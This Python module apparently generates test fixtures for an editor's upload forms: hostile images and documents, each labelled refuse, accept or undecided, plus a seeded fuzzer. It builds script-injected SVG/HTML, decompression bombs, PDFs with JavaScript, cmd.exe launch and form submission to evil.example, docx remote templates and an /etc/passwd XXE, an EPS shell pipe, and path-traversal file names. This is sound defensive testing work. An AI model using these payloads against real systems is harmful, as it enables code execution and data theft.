"""Files that nobody means well with, made up from a seed: pictures and documents for the forms of the editor."""

import io
import random
import struct
import zlib
from functools import cache
from typing import NamedTuple

import pikepdf
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from .open_documents import ORDINARY, REFUSED, UNDECIDED, open_documents, zipped

SCRIPT = b"<script>document.title='executed';fetch('/executed')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'executed\'"><script>alert(1)</script></svg>'
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
FORMATS = {"jpg": "JPEG", "png": "PNG", "gif": "GIF", "webp": "WEBP", "avif": "AVIF"}
ENCRYPTED = "EncryptedPackage".encode("utf-16-le")
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PLACE = (55.0, 45.0, 30.0)


class HostileFile(NamedTuple):
    """What is sent to which form; `expected` says whether it may be kept, as far as one can say."""

    form: str  # "picture" or "document"
    name: str
    content: bytes
    expected: str = REFUSED

    def __str__(self):
        return f"{self.form} {self.name[:40]!r} of {len(self.content)} bytes"


def picture(kind="PNG", size=(320, 240), colour="navy", mode="RGB", **options):
    file = io.BytesIO()
    Image.new(mode, size, colour).save(file, kind, **options)
    return file.getvalue()


def with_place(kind, **options):
    """A photograph that says where it was taken, and that the camera was held upright."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x9C9C] = 6, "Maker", SCRIPT.decode().encode("utf-16-le")
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", PLACE, "E", PLACE
    return picture(kind, exif=exif.tobytes(), **options)


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width, height, *before, data=b"", depth=8, colours=2):
    head = struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0)
    chunks = [chunk(b"IHDR", head), *before, chunk(b"IDAT", zlib.compress(data)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def bomb(megabytes=200):
    return zlib.compress(b"\0" * (megabytes * 1024 * 1024), 9)


def office(kind, main, *, more=None, types=""):
    called = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    listed = f'<Types xmlns="{TYPES}"><Override PartName="/{main}" ContentType="{called}"/>{types}</Types>'
    return zipped({"[Content_Types].xml": listed, main: "<x/>", **(more or {})})


def docx(**options):
    return office("wordprocessingml.document", "word/document.xml", **options)


def pdf(change=None, **options):
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    file = io.BytesIO()
    document.save(file, **options)
    return file.getvalue()


def acting(kind, **more):
    """A PDF that does something when it is opened."""

    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(kind), **more)

    return pdf(change)


def _on_page(document):
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
    note.A = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.pages[0].Annots = pikepdf.Array([note])


def _with_file(document):
    document.attachments["a.exe"] = b"MZ"


def _to_page(document):
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def _bombed(document):
    document.Root.Bomb = document.make_indirect(pikepdf.Stream(document, b"\0" * (50 * 1024 * 1024)))


def pictures():
    """Every kind of trick with a picture, once."""
    plain = {suffix: picture(kind) for suffix, kind in FORMATS.items()}
    for suffix, content in plain.items():
        yield f"page.{suffix}", b"<!doctype html>" + SCRIPT, REFUSED
        yield f"drawing.{suffix}", SVG, REFUSED
        yield f"cut.{suffix}", content[: len(content) // 2], REFUSED if suffix in ("webp", "avif") else UNDECIDED
        yield f"head.{suffix}", content[:12] + b"\0" * 40, REFUSED
        yield f"behind.{suffix}", content + SCRIPT + zipped({"a.html": SCRIPT}), UNDECIDED
        yield f"ordinary.{suffix}", content, ORDINARY
        yield f"empty.{suffix}", b"", REFUSED
    for suffix in ("jpg", "png", "webp", "avif"):
        yield f"place.{suffix}", with_place(FORMATS[suffix]), ORDINARY
    yield "drawing.svg", SVG, REFUSED
    yield "drawing.svgz", zlib.compress(SVG), REFUSED
    yield "program.js", b"alert(1)", REFUSED
    yield "both.gif", b"GIF89a/*" + plain["gif"][8:] + b"*/=1;document.title='executed'", UNDECIDED
    yield "remark.gif", picture("GIF", comment=SCRIPT), ORDINARY
    yield "remark.jpg", picture("JPEG", comment=SCRIPT), ORDINARY
    yield (
        "colours.jpg",
        picture("JPEG", icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()),
        ORDINARY,
    )
    yield "colours2.jpg", picture("JPEG", icc_profile=b"\xff" * 60_000), UNDECIDED
    texts = PngInfo()
    texts.add_text("Comment", SCRIPT.decode())
    texts.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta><exif:GPSLatitude>55,45N</exif:GPSLatitude></x:xmpmeta>")
    yield "texts.png", picture("PNG", pnginfo=texts), ORDINARY
    yield "bomb1.png", png(4, 4, chunk(b"zTXt", b"a\0\0" + bomb()), data=b"\0" * 52), UNDECIDED
    yield "bomb2.png", png(4, 4, chunk(b"iCCP", b"a\0\0" + bomb()), data=b"\0" * 52), UNDECIDED
    yield "bomb3.png", png(4, 4, chunk(b"iTXt", b"a\0\1\0\0\0" + bomb()), data=b"\0" * 52), UNDECIDED
    yield "bomb4.png", png(4, 4, data=b"\0" * 100_000_000), UNDECIDED
    yield "wide.png", png(2**31 - 1, 1), REFUSED
    yield "large.png", png(12_500, 12_500, data=b"\0" * 10_000), REFUSED
    yield "none.png", png(0, 0), REFUSED
    yield "none2.png", png(5, 0, data=b"\0" * 16), REFUSED
    yield "odd.png", png(5, 5, depth=77), REFUSED
    yield "nothing.png", png(5, 5), REFUSED
    yield "large.gif", b"GIF89a\xff\xff\xff\xff" + plain["gif"][10:], REFUSED
    frames = [Image.new("RGB", (300, 300), (number, 0, 0)) for number in range(230)]
    moving = io.BytesIO()
    frames[0].save(moving, "GIF", save_all=True, append_images=frames[1:], duration=20)
    yield "moving.gif", moving.getvalue(), REFUSED
    yield "moving.webp", _moving("WEBP"), ORDINARY
    yield "moving.png", _moving("PNG"), ORDINARY
    for kind in ("BMP", "TIFF", "ICO", "PPM", "EPS", "PCX"):
        yield f"other-{kind}.png", picture(kind, size=(32, 32)), REFUSED
    yield "printed.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch /tmp/executed) (w) file\nshowpage", REFUSED
    names = ("../../../settings.png", "a.php.png", "a" * 300 + ".png", "\u202egnp.exe.png", '"><script>.png', "con.png")
    for name in (*names, "a\r\nX-A: b.png", "..png", ".png", "%00.png", "ФОТО с юга.PNG", "a/b\\c.png"):
        yield name, plain["png"], UNDECIDED


def _moving(kind):
    frames = [Image.new("RGB", (60, 60), (number * 9, 0, 0)) for number in range(20)]
    file = io.BytesIO()
    frames[0].save(file, kind, save_all=True, append_images=frames[1:])
    return file.getvalue()


def documents():
    """Every kind of trick with a document, once."""
    yield "ordinary.pdf", pdf(), ORDINARY
    yield "to-a-page.pdf", pdf(_to_page), ORDINARY
    yield "script.pdf", acting("/JavaScript", JS="app.alert(1)"), REFUSED
    yield "program.pdf", acting("/Launch", F="cmd.exe"), REFUSED
    yield "form.pdf", acting("/SubmitForm", F="https://evil.example/"), REFUSED
    yield "link.pdf", acting("/URI", URI="https://evil.example/"), REFUSED
    yield "on-page.pdf", pdf(_on_page), REFUSED
    yield "hidden.pdf", pdf(_on_page, object_stream_mode=pikepdf.ObjectStreamMode.generate), REFUSED
    yield "file.pdf", pdf(_with_file), REFUSED
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), REFUSED
    yield "bomb.pdf", pdf(_bombed, compress_streams=True), UNDECIDED
    yield "cut.pdf", pdf()[:60], REFUSED
    yield "page.pdf", b"<html>" + SCRIPT, REFUSED
    yield "before.pdf", b"<html>" + SCRIPT + pdf(), REFUSED
    yield "behind.pdf", pdf() + SCRIPT, UNDECIDED
    yield "ordinary.docx", docx(), ORDINARY
    yield "ordinary.xlsx", office("spreadsheetml.sheet", "xl/workbook.xml"), ORDINARY
    yield "ordinary.pptx", office("presentationml.presentation", "ppt/presentation.xml"), ORDINARY
    yield "macro.docx", docx(more={"word/vbaProject.bin": b"\xd0\xcf"}), REFUSED
    yield "control.docx", docx(more={"word/activeX/activeX1.xml": "<x/>"}), REFUSED
    yield "macros.docx", office("wordprocessingml.macro", "word/document.xml"), REFUSED
    remote = (
        '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )
    yield "template.docx", docx(more={"word/_rels/settings.xml.rels": remote}), REFUSED
    for target, expected in (("file:///C:/Office/letter.dotx", ORDINARY), ("file:////evil.example/a.dotx", REFUSED)):
        rels = remote.replace("http://evil.example/a.dotm", target)
        yield "letter.docx", docx(more={"word/_rels/settings.xml.rels": rels}), expected
    turned = "<a><Relationship TargetMode = 'External' Target='file://evil.example/a' Type='{}'/></a>"
    for kind in ("http://x/attachedTemplate", "http://x/image", "http://x/oleObject"):
        for encoding in ("utf-8", "utf-16"):
            rels = turned.format(kind).encode(encoding)
            yield "turned.docx", docx(more={"word/_rels/document.xml.rels": rels}), REFUSED
    link = turned.format("http://x/hyperlink")
    yield "link.docx", docx(more={"word/_rels/document.xml.rels": link}), ORDINARY
    yield (
        "entity.docx",
        docx(more={"_rels/.rels": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'}),
        REFUSED,
    )
    yield "program.docx", docx(more={"word/embeddings/a.exe": b"MZ"}), REFUSED
    yield "bomb.docx", docx(more={"word/media/a.bin": b"\0" * (210 * 1024 * 1024)}), REFUSED
    yield "bomb2.docx", docx(more={"_rels/.rels": b" " * (50 * 1024 * 1024)}), REFUSED
    yield "many.docx", docx(more={f"a{number}": "" for number in range(6000)}), REFUSED
    fetched = turned.format("http://x/aFChunk")
    yield "fetched.docx", docx(more={"word/_rels/document.xml.rels": fetched}), REFUSED
    yield "capitals.docx", docx(more={"word/_rels/document.xml.RELS": fetched}), REFUSED
    yield "twice.docx", docx(more={"Word/Document.xml": "<x/>"}), REFUSED
    renamed = '<a><Relationship Target="data.bin" Type="http://x/vbaProject"/></a>'
    yield "renamed.docx", docx(more={"word/_rels/document.xml.rels": renamed}), REFUSED
    yield "locked.docx", OLD_OFFICE + ENCRYPTED, REFUSED
    yield "old.docx", OLD_OFFICE + b"\0" * 40, REFUSED
    yield "archive.docx", zipped({"a.html": SCRIPT}), REFUSED
    yield "sheet.docx", office("spreadsheetml.sheet", "xl/workbook.xml"), REFUSED
    yield "cut.docx", docx()[:-30], REFUSED
    yield "before.docx", SCRIPT + docx(), REFUSED
    yield from open_documents()
    yield "ordinary.csv", "name;город\nA;Москва\n".encode(), ORDINARY
    yield "page.txt", b"<!doctype html>" + SCRIPT, ORDINARY
    yield "page.csv", SVG, ORDINARY
    yield "program.txt", b"MZ\x90\x00\x03\x00", REFUSED
    yield "signs.csv", b"a\x00b", REFUSED
    yield "seven.txt", b"+ADw-script+AD4-alert(1)", ORDINARY
    yield "cyrillic.txt", "Привет".encode("cp1251"), REFUSED
    yield "sixteen.csv", "имя;город".encode("utf-16"), ORDINARY
    for name in ("a.html", "a.svg", "a.js", "a.exe", "a.docm", "a.xml", "a.pdf.html", "a", ".pdf", "a.swf", "a.xhtml"):
        yield name, SCRIPT, REFUSED


@cache
def all_kinds():
    """Made once: the bombs among them take seconds."""
    return [
        *(HostileFile("picture", *given) for given in pictures()),
        *(HostileFile("document", *given) for given in documents()),
    ]


def damaged(seed):
    """Ordinary files with bytes changed, cut, doubled and put into one another, without an end."""
    chance = random.Random(seed)  # noqa: S311 - nothing is kept secret by it
    known = [file for file in all_kinds() if 20 < len(file.content) < 200_000]
    while True:
        first, second = chance.sample(known, 2)
        content = bytearray(first.content)
        for _ in range(chance.choice((1, 3, 20))):
            where = chance.randrange(len(content))
            how = chance.random()
            if how < 0.5:
                content[where] = chance.randrange(256)
            elif how < 0.7:
                content[where : where + chance.randrange(1, 9)] = chance.randbytes(chance.randrange(9))
            elif how < 0.85:
                content[where:where] = second.content[: chance.randrange(1, 400)]
            else:
                content = content[: max(20, where)]
        yield HostileFile(first.form, chance.choice((first.name, second.name)), bytes(content), UNDECIDED)
